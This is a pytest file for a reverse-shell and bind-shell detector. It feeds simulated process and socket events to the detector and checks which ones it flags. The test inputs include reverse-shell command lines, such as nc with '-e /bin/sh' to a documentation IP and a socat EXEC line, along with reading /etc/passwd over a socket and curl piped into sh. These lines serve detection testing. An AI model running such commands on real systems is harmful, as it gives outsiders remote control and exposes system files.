"""Shells at a distance, record by record; tests/scenarios has them for real."""

from __future__ import annotations

import pytest

from agentwatch.detect.shells import ROUNDS
from agentwatch.event import Value
from agentwatch.schema.events import StreamKind
from tests.detect.world import NULL, SECOND, Stream, World, fifo, inet, pipe, pty

HOLDER, SHELL, RELAY, FLOW = 100, 200, 300, 7
UNIX: Stream = (StreamKind.UNIX, 31, 32)


def brief(told: list[dict[str, Value]]) -> list[tuple[Value, ...]]:
    return [(one["Behaviour"], one["Stage"], one["Via"]) for one in told]


def holder(accepted: bool = False, *argv: str) -> World:
    """A program with a connection."""
    world = World()
    world.exec(HOLDER, *(argv or ("tool", "x")))
    world.connect(HOLDER, FLOW, accepted=accepted)
    return world


@pytest.mark.parametrize(
    "argv", [("sh",), ("bash", "-i"), ("bash", "--norc", "--noprofile"), ("zsh", "-l"), ("tool", "-i")]
)
def test_a_shell_on_the_socket(argv: tuple[str, ...]) -> None:
    told = holder().exec(SHELL, *argv, parent=HOLDER, stdin=inet(FLOW), stdout=inet(FLOW))
    assert brief(told) == [("reverse_shell", "certain", "socket")]
    assert told[0]["HolderImage"] == "/bin/tool"
    assert told[0]["DestinationIp"] == "203.0.113.5"


def test_another_program_on_the_socket_is_likely() -> None:
    told = holder().exec(SHELL, "session", "--serve", parent=HOLDER, stdin=inet(FLOW), stdout=inet(FLOW))
    assert brief(told) == [("reverse_shell", "likely", "socket")]


def test_a_shell_whose_input_alone_is_the_socket_is_a_probe() -> None:
    assert holder().exec(SHELL, "bash", "-c", parent=HOLDER, stdin=inet(FLOW)) == []


def test_a_socket_that_is_reported_after_the_program() -> None:
    world = World()
    assert world.exec(SHELL, "sh", stdin=inet(FLOW), stdout=inet(FLOW)) == []
    assert brief(world.connect(HOLDER, FLOW)) == [("reverse_shell", "certain", "socket")]


def test_an_accepted_socket_makes_a_bind_shell() -> None:
    told = holder(True).exec(SHELL, "sh", "-i", parent=HOLDER, stdin=inet(FLOW), stdout=inet(FLOW))
    assert brief(told) == [("bind_shell", "certain", "socket")]
    script = holder(True).exec(
        SHELL, "sh", "/srv/page.cgi", parent=HOLDER, stdin=inet(FLOW), stdout=inet(FLOW)
    )
    assert script == []


@pytest.mark.parametrize(("stdin", "via"), [(pipe(5), "pipe"), (pty(3), "pty"), (UNIX, "unix")])
def test_a_prompt_that_goes_out(stdin: Stream, via: str) -> None:
    world = holder()
    assert world.exec(SHELL, "sh", "-i", parent=HOLDER, stdin=stdin, stdout=stdin) == []
    assert brief(world.says(FLOW, b"\x1b[?2004hroot@host:/# ")) == [("reverse_shell", "certain", via)]


def test_a_command_that_came_in_runs_below_the_shell() -> None:
    world = holder()
    world.exec(SHELL, "sh", parent=HOLDER, stdin=pipe(5), stdout=pipe(6))
    world.hears(FLOW, b"cat /etc/passwd | wc -l\n")
    told = world.exec(400, "cat", "/etc/passwd", parent=SHELL, stdin=pipe(5), stdout=pipe(9))
    assert brief(told) == [("reverse_shell", "certain", "pipe")]
    assert told[0]["ProcessId"] == SHELL


def test_a_shell_that_was_run_before_the_connection() -> None:
    world = World()
    world.exec(HOLDER, "tool", "x")
    world.exec(SHELL, "sh", parent=HOLDER, stdin=pipe(5), stdout=pipe(6))
    world.connect(HOLDER, FLOW)
    world.hears(FLOW, b"id\n")
    assert brief(world.exec(400, "id", parent=SHELL)) == [("reverse_shell", "certain", "pipe")]


@pytest.mark.parametrize(
    ("argv", "line"),
    [
        (("sh", "-c", "id"), b"id\n"),
        (("bash", "-lc", "ls -l; pwd 2>&1"), b"ls -l; pwd"),
        (("ls", "-l"), b"\x00\x06ls -l\n"),
    ],
)
def test_orders_run_one_by_one(argv: tuple[str, ...], line: bytes) -> None:
    world = holder()
    world.hears(FLOW, line)
    assert brief(world.exec(SHELL, *argv, parent=HOLDER, stdout=pipe(6))) == [
        ("reverse_shell", "likely", "pipe")
    ]
    assert brief(world.says(FLOW, b"uid=0(root)\n")) == [("reverse_shell", "certain", "pipe")]


@pytest.mark.parametrize(
    "message",
    [
        b'{"command": "uname -a"}\n',
        b"*2\r\n$4\r\nwork\r\n$8\r\nuname -a\r\n",
        b"MSG work 1 8\r\nuname -a\r\n",
        b"\x01\x02\x03\x04uname -a\x05\x06\x07",
        b"uname\n",
    ],
)
def test_commands_in_frames_are_no_orders(message: bytes) -> None:
    world = holder()
    world.hears(FLOW, message)
    world.exec(SHELL, "sh", "-c", "uname -a", parent=HOLDER, stdout=pipe(6))
    world.says(FLOW, b"Linux\n")
    assert world.told == []


def test_a_line_that_came_in_long_before_is_no_order() -> None:
    world = holder()
    world.hears(FLOW, b"uname -a\n")
    world.now += 5 * SECOND
    assert world.exec(SHELL, "sh", "-c", "uname -a", parent=HOLDER) == []


def test_orders_over_http_take_two() -> None:
    world = holder()
    answer = b"HTTP/1.1 200 OK\r\nContent-Length: 9\r\n\r\nuname -a\n"
    stages = []
    for _ in range(2):
        world.says(FLOW, b"GET /next HTTP/1.1\r\nHost: h\r\n\r\n")
        world.hears(FLOW, answer)
        stages.append(brief(world.exec(SHELL, "sh", "-c", "uname -a", parent=HOLDER, stdout=pipe(6))))
    assert stages == [[], [("reverse_shell", "likely", "pipe")]]


def play_rounds(world: World, count: int) -> None:
    for number in range(count):
        world.hears(FLOW, bytes((0xF0 + number, 7, 1, 9, 3, 3, 0xEE, 2)))
        world.exec(400 + number, "id", parent=SHELL, stdin=pipe(5), stdout=pipe(6))
        world.says(FLOW, b"\xf1\x02\x03\x04")


def test_rounds_without_words_are_likely() -> None:
    world = holder()
    world.exec(SHELL, "sh", parent=HOLDER, stdin=pipe(5), stdout=pipe(6))
    play_rounds(world, ROUNDS - 1)
    assert world.told == []
    play_rounds(world, 1)
    assert brief(world.told) == [("reverse_shell", "likely", "pipe")]


def test_rounds_beside_another_connection_say_nothing() -> None:
    world = holder()
    world.connect(HOLDER, FLOW + 1, "198.51.100.1", 443)
    world.exec(SHELL, "sh", parent=HOLDER, stdin=pipe(5), stdout=pipe(6))
    play_rounds(world, 9)
    assert world.told == []


def test_a_harness_over_tls_is_silent() -> None:
    world = holder()
    world.exec(SHELL, "bash", parent=HOLDER, stdin=pipe(5), stdout=pipe(6))
    world.says(FLOW, b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(300))
    world.hears(FLOW, b"\x16\x03\x03\x00\x7a\x02\x00\x00\x76\x03\x03" + bytes(300))
    for number in range(9):
        world.hears(FLOW, b"\x17\x03\x03\x00\x30" + bytes(48))
        world.exec(400 + number, "id", parent=SHELL, stdin=pipe(5), stdout=pipe(6))
        world.says(FLOW, b"\x17\x03\x03\x00\x30" + bytes(40) + b"root@h:~# ")
    assert world.told == []


def pipeline(relay_out: Stream, shell_in: Stream, *argv: str) -> World:
    world = World()
    world.exec(SHELL, *argv, stdin=shell_in, stdout=pipe(6))
    world.exec(RELAY, "relay", "x", stdin=pipe(6), stdout=relay_out)
    world.connect(RELAY, FLOW)
    return world


def test_a_circle_of_pipes_round_a_shell() -> None:
    assert brief(pipeline(fifo(5), fifo(5), "sh", "-i").told) == [("reverse_shell", "certain", "pipeline")]
    assert brief(pipeline(fifo(5), pipe(8), "sh").told) == [("reverse_shell", "certain", "pipeline")]


def test_pipes_that_are_no_circle_round_a_shell() -> None:
    assert pipeline(NULL, pipe(8), "sh").told == []
    assert pipeline(fifo(5), fifo(5), "sh", "work.sh").told == []
    assert pipeline(fifo(5), fifo(5), "gzip", "-c").told == []


def test_a_pipeline_from_one_host_to_another_is_likely() -> None:
    world = World()
    world.exec(RELAY, "telnet", "a", stdout=pipe(5))
    world.connect(RELAY, FLOW, "203.0.113.5")
    world.exec(SHELL, "sh", stdin=pipe(5), stdout=pipe(6))
    world.exec(RELAY + 1, "telnet", "b", stdin=pipe(6))
    assert brief(world.connect(RELAY + 1, FLOW + 1, "203.0.113.6")) == [
        ("reverse_shell", "likely", "pipeline")
    ]


def test_words_that_join_a_port_and_a_shell() -> None:
    for argv in (("nc", "203.0.113.5", "4001", "-e", "/bin/sh"), ("x", "TCP:h:4001", "EXEC:'sh -i',pty")):
        told = holder(False, *argv).exec(SHELL, "sh", "-i", parent=HOLDER, stdin=pipe(5), stdout=pipe(5))
        assert brief(told) == [("reverse_shell", "certain", "pipe")]
    web = holder(True, "socat", "TCP-LISTEN:4001,fork", "EXEC:page")
    assert web.exec(SHELL, "page", parent=HOLDER, stdin=UNIX, stdout=UNIX) == []


def script_loop(count: int, words: str = "http://h/c?{}", works: bool = True) -> World:
    world = World()
    world.exec(50, "loop", "x")
    for number in range(count):
        client, shell = 1000 + 10 * number, 1001 + 10 * number
        world.exec(client, "curl", words.format(number), parent=50, stdout=pipe(number + 1))
        world.exec(shell, "sh", parent=50, stdin=pipe(number + 1))
        world.connect(client, client, port=80)
        if works:
            world.exec(shell + 1, "true", parent=shell)
        world.close(client)
        world.exit(client)
        world.exit(shell)
    return world


def test_a_remote_script_in_a_loop() -> None:
    assert script_loop(2).told == []
    (told,) = script_loop(5).told
    assert (told["Kind"], told["Rounds"], told["Image"]) == ("remote_script_loop", 3, "/bin/sh")


def test_different_scripts_or_idle_ones_are_no_loop() -> None:
    world = World()
    for name in "abcdefg":
        world.told += script_loop(1, f"http://h/{name}.sh").told
    assert world.told == []
    assert script_loop(6, works=False).told == []


def test_what_is_closed_or_crowded_out_is_let_go() -> None:
    world = holder()
    for number in range(40):
        world.exec(1000 + number, "sh", parent=HOLDER, stdin=pipe(number), stdout=pipe(99))
    world.close(FLOW)
    shells = next(one for one in world.chain._joined if type(one).__name__ == "Shells")
    assert not shells._ties  # type: ignore[attr-defined]
    assert not shells._links  # type: ignore[attr-defined]
